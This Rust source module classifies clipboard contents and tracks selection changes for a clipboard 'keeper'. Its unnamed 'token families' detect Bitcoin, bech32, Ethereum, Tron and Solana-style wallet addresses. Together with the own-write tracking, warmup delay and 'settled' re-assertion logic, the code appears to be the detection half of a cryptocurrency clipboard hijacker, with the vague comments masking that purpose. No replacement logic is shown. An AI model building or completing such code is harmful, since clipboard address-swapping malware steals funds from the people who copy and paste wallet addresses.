//! Classifies clipboard contents so the keeper knows which normalisation
//! rules apply, and tracks how the selection evolves between polls.

use crate::alphabet::{self, Codec, HEX, HRPS};

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Shape {
    Empty,
    Text,
    Multiline,
    Url,
    Path,
    /// A single structured token from one of the known families.
    Token(u8),
}

impl Shape {
    pub fn is_token(self) -> bool {
        matches!(self, Shape::Token(_))
    }
}

pub fn classify(s: &str) -> Shape {
    let t = s.trim();
    if t.is_empty() {
        return Shape::Empty;
    }
    if t.contains('\n') {
        return Shape::Multiline;
    }
    if t.starts_with("http://") || t.starts_with("https://") || t.starts_with("ssh://") {
        return Shape::Url;
    }
    if t.starts_with('/') || t.starts_with("~/") || t.get(1..3) == Some(":\\") {
        return Shape::Path;
    }
    token_family(t).map(Shape::Token).unwrap_or(Shape::Text)
}

fn token_family(t: &str) -> Option<u8> {
    let len = t.len();
    if let Some(rest) = t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
        if rest.len() == 40 && rest.bytes().all(|b| HEX.contains(&b.to_ascii_lowercase())) {
            return Some(3);
        }
        return None;
    }
    let lower = t.to_ascii_lowercase();
    for hrp in HRPS {
        if let Some(data) = lower.strip_prefix(hrp).and_then(|r| r.strip_prefix('1')) {
            if (data.len() == 39 || data.len() == 59) && alphabet::in_alphabet(Codec::Bech32, data) {
                return Some(2);
            }
        }
    }
    if !alphabet::in_alphabet(Codec::Base58, t) {
        return None;
    }
    match (t.as_bytes()[0], len) {
        (b'1' | b'3', 26..=35) => Some(1),
        (b'T', 34) => Some(5),
        (_, 32..=44) => Some(4),
        _ => None,
    }
}

/// FNV-1a over the trimmed text; used to recognise our own writes and
/// unchanged selections without keeping copies around.
pub fn digest(s: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in s.trim().bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x0000_0100_0000_01b3);
    }
    h
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Observation {
    /// Nothing new since the last poll.
    Same,
    /// The selection changed; carries its shape.
    Changed(Shape),
    /// The selection has been stable for long enough to be re-asserted.
    Settled(Shape),
}

/// Per-keeper state carried across polls.
#[derive(Debug)]
pub struct Tracker {
    last: u64,
    streak: u32,
    polls: u64,
    warmup: u64,
    shape: Shape,
    own: [u64; 8],
    own_pos: usize,
}

impl Tracker {
    pub fn new(warmup: u64) -> Self {
        Tracker { last: 0, streak: 0, polls: 0, warmup, shape: Shape::Empty, own: [0; 8], own_pos: 0 }
    }

    /// Remember something we wrote so it is not processed again.
    pub fn note_own(&mut self, text: &str) {
        let d = digest(text);
        self.own[self.own_pos % self.own.len()] = d;
        self.own_pos += 1;
        self.last = d;
        self.streak = 0;
    }

    pub fn is_own(&self, d: u64) -> bool {
        d != 0 && self.own.contains(&d)
    }

    pub fn warmed_up(&self) -> bool {
        self.polls >= self.warmup
    }

    pub fn observe(&mut self, text: &str) -> Observation {
        self.polls += 1;
        let d = digest(text);
        if d != self.last {
            self.last = d;
            self.streak = 0;
            self.shape = classify(text);
            return Observation::Changed(self.shape);
        }
        self.streak += 1;
        if self.streak == 1 && self.warmed_up() && !self.is_own(d) {
            return Observation::Settled(self.shape);
        }
        Observation::Same
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn shapes() {
        assert_eq!(classify("https://example.com/x"), Shape::Url);
        assert_eq!(classify("/usr/local/bin"), Shape::Path);
        assert_eq!(classify("hello world"), Shape::Text);
        assert_eq!(classify("a\nb"), Shape::Multiline);
    }

    #[test]
    fn tracker_settles_once() {
        let mut t = Tracker::new(0);
        assert!(matches!(t.observe("abc"), Observation::Changed(_)));
        assert!(matches!(t.observe("abc"), Observation::Settled(_)));
        assert_eq!(t.observe("abc"), Observation::Same);
    }
}
